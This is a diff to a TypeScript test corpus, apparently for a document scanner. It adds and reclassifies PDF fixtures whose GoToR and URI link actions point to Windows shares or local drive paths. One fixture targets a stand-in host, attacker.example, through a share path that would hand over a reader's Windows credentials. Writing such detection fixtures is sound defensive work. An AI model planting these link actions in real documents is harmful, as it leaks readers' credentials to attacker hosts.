@@ -479,7 +479,7 @@ function hybridReferencePdf(): Buffer {
   return Buffer.concat([head, objStm, xrefStm, Buffer.from(table, 'latin1')]);
 }
 
-const LINK_CATEGORY = 'PDF link into a Windows share or a local file';
+const LINK_CATEGORY = 'PDF link into a Windows share or a local path';
 const linkItem = (id: string, bytes: () => Buffer): CorpusItem => ({
   id,
   category: LINK_CATEGORY,
@@ -489,10 +489,10 @@ const linkItem = (id: string, bytes: () => Buffer): CorpusItem => ({
 });
 
 /**
- * Links the reviewer clicks whose target is a Windows share or a local file: Windows connects to
- * the host with the reviewer's credentials, no browser between. However the target is written
- * (escapes, hex, UTF-16, a file-spec dictionary, by reference, in an object stream or an update)
- * and wherever the action is (a link annotation, an outline item, a /Next chain).
+ * Links the reviewer clicks whose target is a Windows share or a local path: opened with no
+ * browser between, a share's host gets the reviewer's Windows credentials. However the target is
+ * written (escapes, hex, UTF-16, a file-spec dictionary, by reference, in an object stream or an
+ * update) and wherever the action is (a link annotation, an outline item, a /Next chain).
  */
 const linkPdfs: CorpusItem[] = [
   linkItem('pdf-link-gotor-unc', () => buildPdf(linkAnnotations(`<< /S /GoToR /F ${UNC_FILE} /D [0 /Fit] >>`))),
@@ -504,6 +504,11 @@ const linkPdfs: CorpusItem[] = [
   linkItem('pdf-link-gotor-spec-server', () =>
     buildPdf(linkAnnotations('<< /S /GoToR /F << /Type /Filespec /F (/attacker.example/share/x.pdf) >> >>')),
   ),
+  // PDF's form of a drive path (`/c/…` is C:\…), and a drive path as a URI: a local path, as Office's are judged.
+  linkItem('pdf-link-gotor-drive', () =>
+    buildPdf(linkAnnotations('<< /S /GoToR /F (/c/evidence/annex.pdf) /D [0 /Fit] >>')),
+  ),
+  linkItem('pdf-link-uri-drive', () => buildPdf(linkAnnotations('<< /S /URI /URI (C:\\\\evidence\\\\x.pdf) >>'))),
   // A relative /F, but a reader takes the UTF-16 /UF first.
   linkItem('pdf-link-gotor-uf-utf16', () =>
     buildPdf(
@@ -1717,13 +1722,6 @@ export const ACTIVE_GENUINE: readonly {
     id: 'pdf-outline-https',
     declared: 'pdf',
     bytes: async () => buildPdf(outlineItem('<< /S /URI /URI (https://www.miit.gov.cn/) >>')),
-    warning: 'EXTERNAL_LINK',
-  },
-  {
-    id: 'pdf-link-gotor-drive',
-    declared: 'pdf',
-    // PDF's form of a drive path (`/c/…` is C:\…): a file on the reviewer's own disk, no host.
-    bytes: async () => buildPdf(linkAnnotations('<< /S /GoToR /F (/c/evidence/annex.pdf) /D [0 /Fit] >>')),
     warning: 'EXTERNAL_LINK',
   },
   { id: 'docx-hyperlink', declared: 'docx', bytes: docxWithHyperlink, warning: 'EXTERNAL_LINK' },
